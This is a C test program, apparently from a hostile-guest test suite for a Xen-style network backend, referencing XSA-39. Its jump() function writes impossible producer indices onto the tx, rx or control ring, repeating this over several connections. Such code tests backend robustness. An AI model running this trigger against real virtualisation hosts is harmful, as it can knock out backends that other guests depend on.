/* SPDX-License-Identifier: MIT */
/*
 * A producer index that is impossible. Arguments: `tx`, `rx` or `control`; how far from
 * where the backend is; how many times, each with a new connection. (XSA-39)
 */
#include <string.h>

#include "net_hostile.h"

static enum netfront_ring ring_named(const char *name)
{
	if (!strcmp(name, "rx"))
		return NETFRONT_RING_RX;
	return strcmp(name, "control") ? NETFRONT_RING_TX : NETFRONT_RING_CONTROL;
}

static void jump(struct net_guest *guest, enum netfront_ring ring, uint32_t by)
{
	struct netfront_raw raw;
	uint32_t *req_prod, *rsp_prod;

	netfront_ring_raw(guest->queue, ring, &raw);
	req_prod = raw.page;
	rsp_prod = req_prod + 2;
	__atomic_store_n(req_prod, *rsp_prod + by, __ATOMIC_RELEASE);
	netfront_raw_notify(guest->queue, ring);
	net_wait_state(guest, 5);
	/* Repentance comes too late, and insisting does no harm. */
	__atomic_store_n(req_prod, raw.req_prod, __ATOMIC_RELEASE);
	netfront_raw_notify(guest->queue, ring);
	__atomic_store_n(req_prod, raw.req_prod + by * 3, __ATOMIC_RELEASE);
	netfront_raw_notify(guest->queue, ring);
}

int main(int argc, char **argv)
{
	unsigned long rounds = argc > 3 ? strtoul(argv[3], NULL, 10) : 1;
	struct netfront_config config = { .features = NETFRONT_CONTROL,
					  .timeout_ms = 2000 };
	struct net_guest guest;

	CHECK(argc > 2);
	while (rounds--) {
		net_guest_connect(config, &guest);
		net_send_good(&guest);
		jump(&guest, ring_named(argv[1]), strtol(argv[2], NULL, 0));
		net_guest_end(&guest);
	}
	return 0;
}
